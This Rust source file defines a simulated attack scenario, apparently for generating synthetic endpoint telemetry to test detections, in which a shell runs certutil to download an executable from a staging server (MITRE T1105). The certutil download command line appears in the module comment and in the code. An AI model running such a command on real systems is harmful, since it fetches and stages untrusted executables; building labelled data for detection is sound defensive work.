//! Planted: certutil as a downloader. From a shell the operator runs
//! `certutil.exe -urlcache -split -f http://<staging>/update.exe C:\Users\Public\update.exe`;
//! certutil connects to the staging server and, seconds later, writes the executable.

use serde_json::{Map, Value};

use super::{Env, Kind, Scenario, outbound, process_record};
use crate::synth::content as c;
use crate::synth::device::{Ctx, MINUTE, SECOND, Spawn};
use crate::synth::rng::Rng;
use crate::synth::world as w;

/// See the module documentation.
pub struct CertutilDownload;

impl Scenario for CertutilDownload {
    fn name(&self) -> &'static str {
        "certutil_download"
    }

    fn kind(&self) -> Kind {
        Kind::Attack
    }

    fn technique(&self) -> &'static str {
        "T1105"
    }

    fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, rng: &mut Rng) -> Map<String, Value> {
        let shell = ctx.spawn(at, Spawn::new(&w::CMD, "\"C:\\Windows\\system32\\cmd.exe\"").parent(&env.session.explorer).lifetime(10 * MINUTE));
        let target = "C:\\Users\\Public\\update.exe";
        let line = format!("certutil.exe  -urlcache -split -f http://{}/update.exe {target}", c::STAGING_IP);
        let certutil = ctx.spawn(at + 40 * SECOND, Spawn::new(&w::CERTUTIL, line).parent(&shell).lifetime(5 * SECOND));
        let conn = outbound(c::STAGING_IP, 80, rng);
        ctx.connect(&certutil, at + 41 * SECOND, &conn);
        ctx.file_event(&certutil, at + 43 * SECOND, "FileCreated", target, 73_216, &[]);
        process_record(&certutil, &shell)
    }
}
